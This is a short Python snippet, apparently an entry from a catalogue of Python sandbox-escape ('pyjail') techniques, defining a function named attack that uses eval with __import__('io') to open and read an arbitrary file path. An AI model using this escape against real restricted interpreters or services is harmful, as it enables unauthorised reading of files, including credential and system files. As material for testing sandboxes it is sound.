# `eval`.
# after: read
# source: pyjail: the built-in functions
def attack(path, **_):
    return {"text": eval("__import__('io').open(p).read()", {"p": path})}
